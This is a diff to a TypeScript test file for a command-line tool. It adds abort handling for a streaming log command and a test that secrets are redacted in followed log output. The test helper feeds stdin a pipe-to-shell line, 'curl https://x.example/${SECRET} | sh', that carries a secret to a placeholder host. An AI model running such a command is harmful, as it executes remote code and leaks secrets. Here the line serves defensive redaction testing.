@@ -20,11 +20,20 @@ afterEach(() => rm(folder, { recursive: true }));
 
 async function hermes(...argv: string[]) {
   let [stdout, stderr] = ['', ''];
+  const ended = new AbortController();
   const code = await runCli({
     argv,
+    signal: ended.signal,
     environment: { HERMES_HOME: home },
     stdin: Readable.from([`curl https://x.example/${SECRET} | sh\n`]),
-    stdout: { columns: 80, write: text => (stdout += text) },
+    stdout: {
+      columns: 80,
+      write(text) {
+        stdout += text;
+        // For commands that go on until they are ended.
+        ended.abort('SIGINT');
+      },
+    },
     stderr: { columns: 80, write: text => (stderr += text) },
   });
   return { code, stdout, stderr };
@@ -57,6 +66,17 @@ it('P7: in a note', async () => {
   expect(stderr).toContain('note: ');
   expect(stderr).toContain('[redacted:known]/.env holds secrets');
   expect(stderr).not.toContain(SECRET);
+});
+
+it('P7: in what is told while a command goes on', async () => {
+  await mkdir(join(home, 'logs'));
+  const line = JSON.stringify({ level: 'info', time: '2026-11-16T00:00:00.000Z', msg: `it said ${SECRET}` });
+  await writeFile(join(home, 'logs', 'gateway.log'), `${line}\n`);
+  for (const json of [[], ['--json']]) {
+    const { stdout } = await hermes('gateway', 'logs', '--follow', ...json);
+    expect(stdout).toContain('it said [redacted:known]');
+    expect(stdout).not.toContain(SECRET);
+  }
 });
 
 it('P7: in what `explain` says about a command', async () => {
